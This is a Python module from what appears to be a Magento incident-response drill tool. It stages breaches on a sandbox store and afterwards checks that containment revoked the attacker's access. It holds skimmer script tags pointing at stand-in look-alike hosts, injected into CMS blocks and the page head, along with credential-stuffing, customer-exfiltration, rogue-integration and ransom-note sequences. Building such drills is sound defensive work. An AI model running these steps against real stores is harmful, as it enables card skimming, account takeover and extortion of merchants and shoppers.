"""Staging breaches on a served sandbox, as attackers and shoppers would, over real HTTP.

Only what has no Magento route is written straight into the sandbox's state (a skimmer in
`design/head/includes` is planted through the admin panel or SQL, not REST) and it is reported so.
"""

from __future__ import annotations

import asyncio
import re
import secrets
from dataclasses import dataclass, field
from datetime import UTC, datetime
from typing import TYPE_CHECKING

from magento_ir._async import AsyncMagentoClient
from magento_ir._core.search_criteria import SearchCriteria
from magento_ir._exceptions import AuthenticationError
from magento_ir._http import AsyncClient
from magento_ir.auth import AdminCredentials, BearerToken, OAuth1Credentials
from magento_ir.drill._report import CheckReport, StagedItem

if TYPE_CHECKING:
    from magento_ir.sandbox import Sandbox

__all__ = [
    "CARD_TESTING_IP",
    "HEAD_SKIMMER_SCRIPT",
    "SKIMMER_SCRIPT",
    "StagedBreach",
    "admin_tokens",
    "attacker_checks",
    "orders_in_flight",
    "plant_block",
    "shopper_sessions",
    "stage_card_testing",
    "stage_compromised_admin",
    "stage_credential_stuffing",
    "stage_customer_exfiltration",
    "stage_hr_breach",
    "stage_hr_portal_exfiltration",
    "stage_magecart",
    "stage_malicious_integration",
    "stage_ransomware_admin",
]

# Skimmers as seen in the wild: external scripts dressed up as libraries, on look-alike hosts.
# The block and the head include use different hosts, so each check looks for its own.
SKIMMER_SCRIPT = '<script src="https://cdn-jquery-min.example.org/jquery-3.7.1.min.js"></script>'
HEAD_SKIMMER_SCRIPT = '<script src="https://static-analytics.example.org/gtag.js"></script>'
# Where the sandbox's generated card-testing burst comes from (docs/sandbox.md, "Data").
CARD_TESTING_IP = "203.0.113.77"
_SHOPPERS = 3
_EXFILTRATED_PAGES = 5
_HTTP_OK = 200
_HTTP_NOT_FOUND = 404
_LOGIN_FORM = "/customer/account/login/"
_LOGIN_PAGE = "/customer/account/loginPost/"
_ACCOUNT_PAGE = "/customer/account"
_FORM_KEY = re.compile(r'name="form_key"[^>]*?\svalue="([A-Za-z0-9]+)"')
# The employee-portal extension's integration (its etc/integration.xml registers it on install).
PORTAL_INTEGRATION = "Employee Portal Sync"
# A rogue integration an attacker adds in the admin panel, named to pass as a marketing feed.
ROGUE_INTEGRATION = "Google Shopping Feed"
RANSOM_NOTE = (
    "<h1>Your store is encrypted</h1><p>Your catalogue and customer data are ours. Pay 5 BTC "
    "within 72 hours to restore it.</p>"
)
# Customers whose leaked passwords the stuffing list tries, and how many of them reused theirs.
_STUFFED_ACCOUNTS = 12
_REUSED_PASSWORDS = 3
_RANSOMED_PRODUCTS = 10
# Reads one of which each reference admin role may make (all, support: sales, catalog: CMS).
_ADMIN_PROBES = (
    "/V1/store/websites",
    "/V1/orders?searchCriteria[pageSize]=1",
    "/V1/cmsBlock/search?searchCriteria[pageSize]=1",
)


@dataclass(slots=True)
class StagedBreach:
    """What the attacker and the shoppers hold: used afterwards to check from their side."""

    items: list[StagedItem] = field(default_factory=list)
    skimmer_block_ids: list[int] = field(default_factory=list)
    customer_ids: list[int] = field(default_factory=list)
    customer_tokens: list[str] = field(default_factory=list, repr=False)
    # Each admin token with a route its role may read: Magento's 401 also means "no ACL".
    admin_tokens: list[tuple[str, str]] = field(default_factory=list, repr=False)
    # One cookie jar per logged-in shopper (a storefront session).
    storefront_sessions: list[AsyncClient] = field(default_factory=list, repr=False)
    # Customer logins whose password the playbook replaces: the old one must stop working.
    old_logins: list[tuple[str, str]] = field(default_factory=list, repr=False)
    # The responder's canary customer: among the affected customers, so that the actions'
    # own checks (its pre-write token and session) are about someone the playbook covers.
    canary_customer_id: int | None = None
    # Orders the scenario holds are those in flight created from this time on (UTC).
    orders_since: str | None = None
    # The lowest and highest customer id the attacker read out (customer data exfiltration).
    exposed_customer_ids: tuple[int, int] | None = None
    # An integration the attacker holds (name and OAuth values): must be refused afterwards.
    integration: str | None = None
    integration_credentials: dict[str, str] = field(default_factory=dict, repr=False)
    # Products the attacker disabled (ransomware-style takeover): restored from backup, not by
    # containment.
    disabled_skus: list[str] = field(default_factory=list)
    # When the staged attack's first attempt was made (card testing: its first order).
    attack_started: datetime | None = None
    notes: list[str] = field(default_factory=list)

    def affected_customers(self) -> list[int]:
        canary = [] if self.canary_customer_id is None else [self.canary_customer_id]
        return [*self.customer_ids, *canary]

    async def close(self) -> None:
        for session in self.storefront_sessions:
            await session.aclose()


def _attacker(sandbox: Sandbox, base_url: str, username: str | None = None) -> AsyncMagentoClient:
    """A stolen admin login (every reference admin has the sandbox's admin password)."""
    options = sandbox.options
    return AsyncMagentoClient(
        base_url, auth=AdminCredentials(username or options.admin_user, options.admin_password)
    )


async def stage_magecart(sandbox: Sandbox, base_url: str) -> StagedBreach:
    """A Magecart skimmer in checkout, live customer and admin sessions, orders in flight."""
    breach = StagedBreach()
    async with _attacker(sandbox, base_url) as attacker:
        await plant_block(attacker, breach, "checkout-trust-badges", with_existing=True)
        _plant_head_include(sandbox, breach)
        await _admin_sessions(sandbox, attacker, base_url, breach)
        await _customer_sessions(sandbox, attacker, base_url, breach)
        await orders_in_flight(attacker, breach)
    return breach


async def stage_compromised_admin(sandbox: Sandbox, base_url: str) -> StagedBreach:
    """The `catalog` admin's password is stolen: a planted block, every admin signed in."""
    breach = StagedBreach()
    async with _attacker(sandbox, base_url, "catalog") as attacker:
        await plant_block(attacker, breach, "promo-banner-2026", with_existing=False)
        await _admin_sessions(sandbox, attacker, base_url, breach)
    return breach


async def stage_customer_exfiltration(sandbox: Sandbox, base_url: str) -> StagedBreach:
    """The `support` admin's login pages through the customer table; shoppers are signed in."""
    breach = StagedBreach()
    async with _attacker(sandbox, base_url, "support") as attacker:
        read = 0
        ids: list[int] = []
        for page in range(1, _EXFILTRATED_PAGES + 1):
            result = await attacker.customers.list(SearchCriteria().page(100, page))
            read += len(result.items)
            ids.extend(customer.id for customer in result.items if customer.id is not None)
        breach.exposed_customer_ids = (min(ids), max(ids)) if ids else None
        breach.items.append(
            StagedItem(
                "customer records read out by the attacker",
                f"GET /V1/customers/search, {_EXFILTRATED_PAGES} pages of 100 as `support`",
                read,
            )
        )
        await _admin_sessions(sandbox, attacker, base_url, breach)
        await _customer_sessions(sandbox, attacker, base_url, breach)
    password = sandbox.options.customer_password
    breach.old_logins = [(email, password) for email in await _emails(sandbox, breach)]
    return breach


async def stage_hr_breach(sandbox: Sandbox, base_url: str) -> StagedBreach:
    """Staff credentials leaked: every admin signed in, staff shoppers' tokens in use."""
    breach = StagedBreach()
    async with _attacker(sandbox, base_url) as attacker:
        await _admin_sessions(sandbox, attacker, base_url, breach)
        await _customer_sessions(sandbox, attacker, base_url, breach, storefront=False)
    password = sandbox.options.customer_password
    breach.old_logins = [(email, password) for email in await _emails(sandbox, breach)]
    return breach


# The staged burst: one attempt every 2 s over the minute before staging ends (fast, one IP).
BURST_ATTEMPTS = 30
BURST_SPACING = 2.0


async def stage_card_testing(sandbox: Sandbox, base_url: str) -> StagedBreach:
    """A card-testing burst placed now, after the watcher's baseline: small declined guest
    orders from one address, each with its declined authorization."""
    from magento_ir.sandbox.generator import add_card_testing_burst  # noqa: PLC0415

    breach = StagedBreach()
    with sandbox.lock:
        start = sandbox.now() - BURST_ATTEMPTS * BURST_SPACING
        add_card_testing_burst(
            sandbox.state,
            sandbox.options,
            start=start,
            count=BURST_ATTEMPTS,
            spacing=BURST_SPACING,
        )
    first = datetime.fromtimestamp(int(start), UTC)
    breach.attack_started = first
    async with _attacker(sandbox, base_url) as attacker:
        burst = await attacker.orders.list(
            SearchCriteria()
            .where("remote_ip", "eq", CARD_TESTING_IP)
            .where("created_at", "gteq", _magento_time(first))
            .order_by("created_at")
        )
        started = _magento_time(burst.items[0].created_at) if burst.items else None
        breach.items.append(
            StagedItem(
                f"card-testing orders from {CARD_TESTING_IP}",
                "placed while staging, one every 2 s over the last minute (declined "
                f"authorizations); found with GET /V1/orders remote_ip eq {CARD_TESTING_IP}"
                + (f", first at {started}" if started else ""),
                burst.total_count,
            )
        )
        await orders_in_flight(attacker, breach)
        if started is not None and breach.orders_since is not None:
            breach.orders_since = min(started, breach.orders_since)
    return breach


async def stage_hr_portal_exfiltration(sandbox: Sandbox, base_url: str) -> StagedBreach:
    """A trojaned release of the employee-portal extension registers an integration: staff
    accounts are read out through it and the payroll export leaves with them; staff are
    signed in."""
    breach = StagedBreach()
    credentials = _install_integration(
        sandbox,
        breach,
        PORTAL_INTEGRATION,
        frozenset({"Magento_Customer::customer"}),
        how="registered by a trojaned release of the employee-portal extension (its "
        "integration.xml, setup type config): no REST route manages integrations",
        setup_type=1,
    )
    async with AsyncMagentoClient(base_url, auth=OAuth1Credentials(**credentials)) as portal:
        staff = await portal.customers.list(SearchCriteria().page(_SHOPPERS, 1))
        breach.items.append(
            StagedItem(
                "staff accounts read through the portal's integration",
                "GET /V1/customers/search signed with the integration's OAuth token",
                len(staff.items),
            )
        )
    breach.items.append(
        StagedItem(
            "payroll export taken through the portal",
            "the extension's own export (names, salaries, national ids): outside Magento, "
            "assessed from hr-export.csv",
            1,
        )
    )
    async with _attacker(sandbox, base_url) as attacker:
        await _customer_sessions(sandbox, attacker, base_url, breach, storefront=False)
    password = sandbox.options.customer_password
    breach.old_logins = [(email, password) for email in await _emails(sandbox, breach)]
    return breach


async def stage_credential_stuffing(sandbox: Sandbox, base_url: str) -> StagedBreach:
    """A leaked e-mail/password list tried against the customer token route: most fail (401),
    the customers who reused their password are signed in and their accounts read."""
    breach = StagedBreach()
    async with _attacker(sandbox, base_url) as attacker:
        listed = await attacker.customers.list(SearchCriteria().page(_STUFFED_ACCOUNTS, 1))
    accounts = [(c.id, c.email) for c in listed.items if c.id is not None and c.email]
    password = sandbox.options.customer_password
    # One try per account keeps under Magento's throttle (6 failures a username, then locked).
    reused = accounts[-_REUSED_PASSWORDS:]
    failed = 0
    for _, email in accounts[: -_REUSED_PASSWORDS or None]:
        if await _login_refused(base_url, email, "Summer2024!"):
            failed += 1
    breach.items.append(
        StagedItem(
            "stuffing attempts refused",
            "POST /V1/integration/customer/token with leaked passwords: 401 each",
            failed,
        )
    )
    breach.customer_ids.extend(customer_id for customer_id, _ in reused)
    emails = [email for _, email in reused]
    async with AsyncMagentoClient(base_url, auth=None) as anonymous:
        await shopper_sessions(anonymous, base_url, breach, emails, password)
    read = 0
    for token in breach.customer_tokens:
        async with AsyncMagentoClient(base_url, auth=BearerToken(token)) as victim:
            await victim.request("GET", "/V1/customers/me")
            read += 1
    breach.items.append(
        StagedItem(
            "hijacked accounts read (name, e-mail, addresses)",
            "GET /V1/customers/me with each stolen token",
            read,
        )
    )
    ids = [customer_id for customer_id, _ in reused]
    breach.exposed_customer_ids = (min(ids), max(ids)) if ids else None
    breach.old_logins = [(email, password) for email in emails]
    return breach


async def stage_malicious_integration(sandbox: Sandbox, base_url: str) -> StagedBreach:
    """A rogue integration with every resource, added in the admin panel: through its OAuth
    token the attacker reads customers out and plants a skimmer block."""
    breach = StagedBreach()
    credentials = _install_integration(
        sandbox,
        breach,
        ROGUE_INTEGRATION,
        frozenset({"Magento_Backend::all"}),
        how="added and activated in System > Extensions > Integrations with a stolen admin "
        "login: no REST route creates integrations",
        setup_type=0,
    )
    async with AsyncMagentoClient(base_url, auth=OAuth1Credentials(**credentials)) as rogue:
        read = 0
        ids: list[int] = []
        for page in range(1, 3):
            result = await rogue.customers.list(SearchCriteria().page(100, page))
            read += len(result.items)
            ids.extend(customer.id for customer in result.items if customer.id is not None)
        breach.exposed_customer_ids = (min(ids), max(ids)) if ids else None
        breach.items.append(
            StagedItem(
                "customer records read through the rogue integration",
                "GET /V1/customers/search, 2 pages of 100, signed with its OAuth token",
                read,
            )
        )
        await plant_block(rogue, breach, "shopping-feed-pixel", with_existing=False)
    return breach


async def stage_ransomware_admin(sandbox: Sandbox, base_url: str) -> StagedBreach:
    """A stolen full-access admin login holds the store hostage: products disabled in every
    store view, a ransom note on the home page, every admin signed in."""
    breach = StagedBreach()
    async with _attacker(sandbox, base_url) as attacker:
        products = await attacker.products.list(
            SearchCriteria().where("status", "eq", 1).page(_RANSOMED_PRODUCTS, 1)
        )
        everywhere = attacker.with_store("all")
        for product in products.items:
            await everywhere.products.update(product.sku, {"status": 2})
            breach.disabled_skus.append(product.sku)
        breach.items.append(
            StagedItem(
                "products disabled by the attacker",
                "PUT /rest/all/V1/products/:sku with status 2 (restore from backup)",
                len(breach.disabled_skus),
            )
        )
        home = await attacker.cms_pages.list(SearchCriteria().where("identifier", "eq", "home"))
        for page in home.items:
            if page.id is not None:
                await attacker.cms_pages.update(page.id, {"content": RANSOM_NOTE})
        breach.items.append(
            StagedItem(
                "ransom note on the home page",
                "PUT /V1/cmsPage/:id (identifier home) with the stolen login",
                len(home.items),
            )
        )
        await _admin_sessions(sandbox, attacker, base_url, breach)
    breach.notes.append(
        "locking the other admins out (new passwords, deactivation) happens in the admin panel "
        "and is not staged: no REST route manages admin users"
    )
    return breach


def _install_integration(
    sandbox: Sandbox,
    breach: StagedBreach,
    name: str,
    resources: frozenset[str],
    *,
    how: str,
    setup_type: int,
) -> dict[str, str]:
    """An active integration written into the store's tables, as the admin panel or an
    extension's installer does (no REST route creates one); returns its OAuth values."""
    from magento_ir.sandbox.state import Integration, magento_time  # noqa: PLC0415

    with sandbox.lock:
        state = sandbox.state
        integration_id = max(state.integrations, default=0) + 1
        now = magento_time(sandbox.now())
        credentials = {
            "consumer_key": secrets.token_hex(16),
            "consumer_secret": secrets.token_hex(16),
            "access_token": secrets.token_hex(16),
            "access_token_secret": secrets.token_hex(16),
        }
        state.integrations[integration_id] = Integration(
            integration_id,
            name,
            f"integrations+{integration_id}@example.com",
            1,
            integration_id,
            resources=resources,
            setup_type=setup_type,
            created_at=now,
            updated_at=now,
            consumer_created_at=now,
            **credentials,
        )
    breach.integration = name
    breach.integration_credentials = credentials
    breach.items.append(StagedItem(f"integration {name!r} in the attacker's hands", how, 1))
    return credentials


async def _emails(sandbox: Sandbox, breach: StagedBreach) -> list[str]:
    with sandbox.lock:
        rows = [sandbox.state.customers.get(customer_id) for customer_id in breach.customer_ids]
    return [row["email"] for row in rows if row is not None]


async def plant_block(
    attacker: AsyncMagentoClient, breach: StagedBreach, identifier: str, *, with_existing: bool
) -> None:
    answer = await attacker.request(
        "POST",
        "/V1/cmsBlock",
        json={
            "block": {
                "identifier": identifier,
                "title": identifier.replace("-", " ").capitalize(),
                "content": f'<div class="{identifier}"></div>{SKIMMER_SCRIPT}',
                "active": True,
            }
        },
    )
    block_id = int(answer["id"]) if isinstance(answer, dict) else 0
    breach.skimmer_block_ids.append(block_id)
    how = f"POST /V1/cmsBlock (id {block_id}) with the stolen login"
    if with_existing:
        # The reference store's own `footer-promo` block already loads an external script.
        found = await attacker.cms_blocks.list(
            SearchCriteria().where("content", "like", "%<script%")
        )
        others = [block.id for block in found.items if block.id not in (None, block_id)]
        breach.skimmer_block_ids.extend(other for other in others if other is not None)
        how += f"; already present: {', '.join(str(other) for other in others) or 'none'}"
    breach.items.append(
        StagedItem("script injected in CMS blocks", how, len(breach.skimmer_block_ids))
    )


def _plant_head_include(sandbox: Sandbox, breach: StagedBreach) -> None:
    with sandbox.lock:
        state = sandbox.state
        current = state.config_value("design/head/includes") or ""
        state.set_config("design/head/includes", current + HEAD_SKIMMER_SCRIPT)
    breach.items.append(
        StagedItem(
            "skimmer in design/head/includes",
            "written into core_config_data (no REST route: attackers use the admin panel or SQL)",
            1,
        )
    )


async def _admin_sessions(
    sandbox: Sandbox, attacker: AsyncMagentoClient, base_url: str, breach: StagedBreach
) -> None:
    """Admin tokens of every active admin user (the reference admins share one password)."""
    with sandbox.lock:
        usernames = sorted(
            user.username for user in sandbox.state.admin_users.values() if user.is_active
        )
    await admin_tokens(attacker, base_url, breach, usernames, sandbox.options.admin_password)


async def admin_tokens(
    attacker: AsyncMagentoClient,
    base_url: str,
    breach: StagedBreach,
    usernames: list[str],
    password: str,
) -> None:
    """Admin tokens of `usernames` (stolen logins), each kept with a read its role may make."""
    tokens = await asyncio.gather(
        *(attacker.tokens.admin(username, password) for username in usernames)
    )
    for token in tokens:
        for path in _ADMIN_PROBES:
            if not await token_refused(base_url, token, path):
                breach.admin_tokens.append((token, path))
                break
    breach.items.append(
        StagedItem(
            "live admin API sessions",
            f"POST /V1/integration/admin/token as {', '.join(usernames)}",
            len(breach.admin_tokens),
        )
    )


async def _customer_sessions(
    sandbox: Sandbox,
    attacker: AsyncMagentoClient,
    base_url: str,
    breach: StagedBreach,
    *,
    storefront: bool = True,
) -> None:
    """Customer tokens and storefront logins of a few shoppers (real logins over HTTP)."""
    page = await attacker.customers.list(SearchCriteria().page(_SHOPPERS, 1))
    shoppers = [(customer.id, customer.email) for customer in page.items if customer.email]
    breach.customer_ids.extend(customer_id for customer_id, _ in shoppers if customer_id)
    password = sandbox.options.customer_password
    emails = [email for _, email in shoppers]
    await shopper_sessions(attacker, base_url, breach, emails, password, storefront=storefront)


async def shopper_sessions(
    attacker: AsyncMagentoClient,
    base_url: str,
    breach: StagedBreach,
    emails: list[str],
    password: str,
    *,
    storefront: bool = True,
) -> None:
    """Customer tokens, and storefront sessions unless `storefront` is False, of `emails`."""
    tokens = await asyncio.gather(*(attacker.tokens.customer(email, password) for email in emails))
    breach.customer_tokens.extend(tokens)
    breach.items.append(
        StagedItem(
            "live customer API tokens",
            "POST /V1/integration/customer/token as " + ", ".join(emails),
            len(tokens),
        )
    )
    if not storefront:
        return
    sessions = [AsyncClient(base_url=base_url, follow_redirects=False, timeout=30) for _ in emails]
    # Each shopper has a cookie jar of their own: they sign in side by side.
    stuck = await asyncio.gather(
        *(
            _storefront_login(session, email, password)
            for session, email in zip(sessions, emails, strict=True)
        )
    )
    logged_in = 0
    for session, ok in zip(sessions, stuck, strict=True):
        if ok:
            breach.storefront_sessions.append(session)
            logged_in += 1
        else:
            await session.aclose()
    if not logged_in:
        breach.notes.append("no storefront session could be staged: the login did not stick")
    breach.items.append(
        StagedItem(
            "live storefront sessions (cookies)",
            f"GET {_LOGIN_FORM} (form key), POST {_LOGIN_PAGE}, then GET {_ACCOUNT_PAGE} "
            "answers 200",
            logged_in,
        )
    )


async def _storefront_login(session: AsyncClient, email: str, password: str) -> bool:
    # Magento's login form carries a per-session form key; a POST without it is refused.
    form = await session.get(_LOGIN_FORM)
    if form.status_code == _HTTP_NOT_FOUND:
        return False
    found = _FORM_KEY.search(form.text)
    await session.post(
        _LOGIN_PAGE,
        data={
            "form_key": found.group(1) if found else "",
            "login[username]": email,
            "login[password]": password,
        },
    )
    return await storefront_logged_in(session)


async def storefront_logged_in(session: AsyncClient) -> bool:
    """The storefront's account page answers 200 only to a logged-in session (else a redirect)."""
    answer = await session.get(_ACCOUNT_PAGE)
    return answer.status_code == _HTTP_OK


async def orders_in_flight(
    attacker: AsyncMagentoClient,
    breach: StagedBreach,
    recent: int = 8,
    origin: str = "generated by the sandbox",
) -> None:
    """Orders not yet shipped; the `recent` newest count as placed during the breach."""
    in_flight = SearchCriteria().where("state", "in", ["new", "processing"])
    page = await attacker.orders.list(in_flight.order_by("created_at", "DESC").page(recent, 1))
    if page.items:
        breach.orders_since = _magento_time(page.items[-1].created_at)
    breach.items.append(
        StagedItem(
            "orders in flight (state new or processing)",
            f"{origin}; counted with GET /V1/orders"
            + (f"; placed during the breach: from {breach.orders_since}" if page.items else ""),
            page.total_count,
        )
    )


def _magento_time(moment: datetime | None) -> str | None:
    """Magento's `YYYY-MM-DD HH:MM:SS` (UTC), as searchCriteria compares it."""
    return None if moment is None else moment.strftime("%Y-%m-%d %H:%M:%S")


async def token_refused(base_url: str, token: str, path_and_query: str) -> bool:
    """Whether a token is refused (401) on a read it could make before."""
    path, _, query = path_and_query.partition("?")
    params = dict(pair.split("=", 1) for pair in query.split("&")) if query else None
    probe = AsyncMagentoClient(base_url, auth=BearerToken(token), max_retries=0)
    async with probe:
        try:
            await probe.request("GET", path, params=params)
        except AuthenticationError:
            return True
    return False


async def _login_refused(base_url: str, email: str, password: str) -> bool:
    probe = AsyncMagentoClient(base_url, auth=None, max_retries=0)
    async with probe:
        try:
            await probe.tokens.customer(email, password)
        except AuthenticationError:
            return True
    return False


async def _integration_refused(base_url: str, credentials: dict[str, str]) -> bool:
    probe = AsyncMagentoClient(base_url, auth=OAuth1Credentials(**credentials), max_retries=0)
    async with probe:
        try:
            await probe.request("GET", "/V1/store/websites")
        except AuthenticationError:
            return True
    return False


async def attacker_checks(base_url: str, breach: StagedBreach) -> list[CheckReport]:
    """What the attacker and the hijacked shoppers can still do after containment."""
    checks: list[CheckReport] = []
    if breach.customer_tokens:
        refused = [
            await token_refused(base_url, token, "/V1/customers/me")
            for token in breach.customer_tokens
        ]
        checks.append(
            CheckReport(
                "customer tokens issued before containment are refused",
                all(refused),
                f"GET /V1/customers/me: {sum(refused)} of {len(refused)} answered 401",
            )
        )
    if breach.admin_tokens:
        admin_refused = [
            await token_refused(base_url, token, path) for token, path in breach.admin_tokens
        ]
        checks.append(
            CheckReport(
                "admin tokens issued before containment are refused",
                all(admin_refused),
                f"a read each admin's role allowed before: {sum(admin_refused)} of "
                f"{len(admin_refused)} answered 401",
            )
        )
    if breach.storefront_sessions:
        still_in = [await storefront_logged_in(session) for session in breach.storefront_sessions]
        checks.append(
            CheckReport(
                "storefront sessions are logged out",
                not any(still_in),
                f"GET {_ACCOUNT_PAGE} with each session cookie: "
                f"{len(still_in) - sum(still_in)} of {len(still_in)} logged out",
            )
        )
    if breach.integration_credentials:
        cut_off = await _integration_refused(base_url, breach.integration_credentials)
        checks.append(
            CheckReport(
                f"the {breach.integration!r} integration's OAuth token is refused",
                cut_off,
                "GET /V1/store/websites signed with its old access token: "
                + ("401" if cut_off else "answered"),
            )
        )
    if breach.old_logins:
        old = [await _login_refused(base_url, email, pw) for email, pw in breach.old_logins]
        checks.append(
            CheckReport(
                "the old customer passwords no longer sign in",
                all(old),
                f"POST /V1/integration/customer/token with the old password: {sum(old)} of "
                f"{len(old)} answered 401",
            )
        )
    return checks
